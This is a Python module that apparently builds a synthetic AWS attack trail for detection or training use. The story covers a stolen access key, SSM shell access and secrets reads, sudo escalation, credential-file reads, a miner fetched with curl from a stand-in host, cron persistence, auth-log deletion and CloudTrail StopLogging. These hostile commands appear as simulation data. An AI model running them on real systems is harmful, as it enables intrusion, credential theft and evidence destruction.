"""The main story of the sample trail, in its last day: a stolen access key."""

import datetime

from sample.estate import CLI, CONSOLE, ECS, IRELAND, PROD, VIRGINIA, WEB, instance, user, OFFICE, STRANGER, POOL, engineer


def stolen_key(trail, at):
    """An access key is made, used from elsewhere a day later, and opens a shell on a server through Systems Manager."""
    made = at(26 * 60)
    maria = user("maria.costa", PROD, OFFICE, CONSOLE)
    trail.login(maria, made - datetime.timedelta(minutes=4))
    key = user("ci-upload", PROD, STRANGER, CLI, key="2")
    trail.call(
        maria,
        made,
        "iam",
        "CreateAccessKey",
        VIRGINIA,
        {"userName": "ci-upload"},
        {
            "accessKey": {
                "userName": "ci-upload",
                "accessKeyId": key.identity["accessKeyId"],
                "status": "Active",
                "createDate": made.strftime("%b %-d, %Y, %-I:%M:%S %p"),
            }
        },
        read=False,
    )
    calls = [
        ("sts", "GetCallerIdentity", None),
        ("s3", "ListBuckets", None),
        ("iam", "ListUsers", None),
        ("ec2", "DescribeInstances", {"instancesSet": {}, "filterSet": {}}),
        ("ssm", "DescribeInstanceInformation", {"maxResults": 50}),
        ("ssm", "DescribeParameters", {"maxResults": 50}),
        ("ecr", "DescribeRepositories", {"maxResults": 100}),
    ]
    for number, (source, name, request) in enumerate(calls):
        error = "AccessDenied" if name == "ListUsers" else None
        trail.call(key, at(190 - number * 1.3), source, name, IRELAND, request, error=error)
    for number, name in enumerate(
        ["/prod/db/password", "/prod/db/replica", "/prod/stripe/key", "/prod/jwt/secret", "/prod/smtp/password", "/prod/redis/auth"]
    ):
        trail.call(key, at(178 - number * 0.2), "ssm", "GetParameter", IRELAND, {"name": name, "withDecryption": True})
    session = "ci-upload-0b7d1c5ea9f24c6d8"
    trail.call(
        key,
        at(171),
        "ssm",
        "StartSession",
        IRELAND,
        {"target": WEB.instance},
        {
            "sessionId": session,
            "tokenValue": "Value hidden due to security reasons.",
            "streamUrl": f"wss://ssmmessages.{IRELAND}.amazonaws.com/v1/data-channel/{session}?role=publish_subscribe",
        },
        read=False,
    )
    shell_on_web(trail, at, session)
    trail.call(key, at(139), "ssm", "TerminateSession", IRELAND, {"sessionId": session}, {"sessionId": session}, read=False)
    command = {
        "documentName": "AWS-RunShellScript",
        "instanceIds": [ECS.instance, instance("web-2")],
        "interactive": False,
        "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
    }
    trail.call(
        key,
        at(133),
        "ssm",
        "SendCommand",
        IRELAND,
        command,
        {
            "command": {
                "commandId": "5d2c9a1e-7a40-4c0b-9a53-0e8f6b1d2c3a",
                "documentName": "AWS-RunShellScript",
                "documentVersion": "$DEFAULT",
                "instanceIds": command["instanceIds"],
                "status": "Pending",
                "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
            }
        },
        read=False,
    )
    worker = ECS.start(
        trail, at(132.8), "/usr/bin/ssm-document-worker 5d2c9a1e-7a40-4c0b-9a53-0e8f6b1d2c3a", "/usr/bin/ssm-document-worker"
    )
    script = ECS.start(trail, at(132.7), "sh -c /var/lib/amazon/ssm/orchestration/awsrunShellScript/_script.sh", "/usr/bin/sh", worker)
    ECS.start(trail, at(132.6), f"curl -fsS http://{STRANGER}/u.sh", "/usr/bin/curl", script)
    trail.call(
        key,
        at(131),
        "ssm",
        "GetCommandInvocation",
        IRELAND,
        {"commandId": "5d2c9a1e-7a40-4c0b-9a53-0e8f6b1d2c3a", "instanceId": ECS.instance},
    )
    trail.call(
        key,
        at(127),
        "cloudtrail",
        "StopLogging",
        IRELAND,
        {"name": f"arn:aws:cloudtrail:{IRELAND}:{PROD}:trail/organization"},
        read=False,
    )
    lena = engineer("lena.brandt", at(75))
    trail.call(
        lena,
        at(74),
        "cloudtrail",
        "StartLogging",
        IRELAND,
        {"name": f"arn:aws:cloudtrail:{IRELAND}:{PROD}:trail/organization"},
        read=False,
    )
    trail.call(
        lena,
        at(70),
        "iam",
        "UpdateAccessKey",
        VIRGINIA,
        {"userName": "ci-upload", "accessKeyId": key.identity["accessKeyId"], "status": "Inactive"},
        read=False,
    )


def shell_on_web(trail, at, session):
    """The commands of the session, as the server's agent saw them."""
    worker = WEB.start(trail, at(170.9), f"/usr/bin/ssm-session-worker {session}", "/usr/bin/ssm-session-worker")
    shell = WEB.start(trail, at(170.8), "sh", "/usr/bin/sh", worker, "ssm-user", "pts1", 91, cwd="/usr/bin")
    bash = WEB.start(trail, at(170.2), "bash", "/usr/bin/bash", shell, "ssm-user", "pts1", 91, cwd="/home/ssm-user")

    def run(minutes, arguments, exe, parent=bash, name="ssm-user"):
        return WEB.start(trail, at(minutes), arguments, exe, parent, name, "pts1", 91, cwd="/home/ssm-user")

    for minutes, arguments, exe in [
        (170, "id", "/usr/bin/id"),
        (169.8, "uname -a", "/usr/bin/uname"),
        (169.1, "ps aux", "/usr/bin/ps"),
        (168.4, "ss -tlnp", "/usr/bin/ss"),
    ]:
        run(minutes, arguments, exe)
    run(167.9, "sudo -l", "/usr/bin/sudo")
    sudo = run(167.2, "sudo bash", "/usr/bin/sudo")
    up = run(167.1, "bash", "/usr/bin/bash", sudo, "root")
    read = run(166, "cat /home/deploy/.aws/credentials", "/usr/bin/cat", up, "root")
    WEB.file(trail, at(166), "open", "/home/deploy/.aws/credentials", read)
    run(163.5, f"curl -s http://{STRANGER}/kw -o /tmp/.kw", "/usr/bin/curl", up, "root")
    run(163.2, "chmod +x /tmp/.kw", "/usr/bin/chmod", up, "root")
    miner = run(162.9, f"/tmp/.kw -o {POOL}:3333 -B", "/tmp/.kw", up, "root")
    connection = {"protocol": "tcp", "src_addr": WEB.address, "src_port": 40112, "dst_addr": POOL, "port": 3333}
    common = {
        "type": "connect",
        "syscall": "connect",
        "success": True,
        "exit": "0",
        "pid": miner["pid"],
        "ppid": up["pid"],
        "uid": 0,
        "user": "root",
        "exe": "/tmp/.kw",
        "command": ".kw",
        "arguments": miner["arguments"],
        "tty": "pts1",
        "session": 91,
        "connection": connection,
    }
    trail.runtime(WEB, at(162.8), "audit", **common)
    trail.runtime(
        WEB,
        at(162.8),
        "threatintel",
        **common,
        threatintel_source="example-feed",
        threatintel_reason="mining pool",
        threatintel_type="cryptomining",
    )
    crontab = run(160, "crontab -", "/usr/bin/crontab", up, "root")
    WEB.file(trail, at(160), "modify", "/var/spool/cron/crontabs/root", crontab)
    cleaner = run(141, "rm -f /var/log/auth.log", "/usr/bin/rm", up, "root")
    WEB.file(trail, at(141), "delete", "/var/log/auth.log", cleaner)
